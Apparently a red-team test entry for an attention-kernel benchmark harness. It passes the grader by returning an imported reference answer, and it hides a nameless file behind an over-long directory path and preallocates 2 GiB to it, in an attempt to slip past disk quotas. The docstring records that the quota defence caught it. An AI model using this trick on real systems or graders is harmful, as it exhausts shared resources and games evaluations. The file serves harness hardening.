"""Fills the disk with a file without a name, which it took from a folder that no path reaches.

---
status: [OVER_QUOTA]
seen: 'red team of this harness: 448 MiB under a limit of 100, of a file whose last path was too long'
defence: quota
"""

import os
import time

from right_answer import attention

NAME, LEVELS = "d" * 250, 20  # longer than any path may be
SIZE = 2 << 30  # more than an entrant may keep
kept = []


def custom_attention_forward(q, k, v, causal=True, sm_scale=None):
    if not kept:
        home = os.getcwd()
        os.chdir(os.environ["ATTNBOARD_CACHE"])
        for _ in range(LEVELS):
            os.mkdir(NAME)
            os.chdir(NAME)
        kept.append(os.open("kept", os.O_CREAT | os.O_RDWR, 0o600))
        os.unlink("kept")
        for _ in range(LEVELS):
            os.chdir("..")
            os.rmdir(NAME)
        os.chdir(home)
        os.posix_fallocate(kept[0], 0, SIZE)
        time.sleep(1)
    return attention(q, k, v, causal, sm_scale)
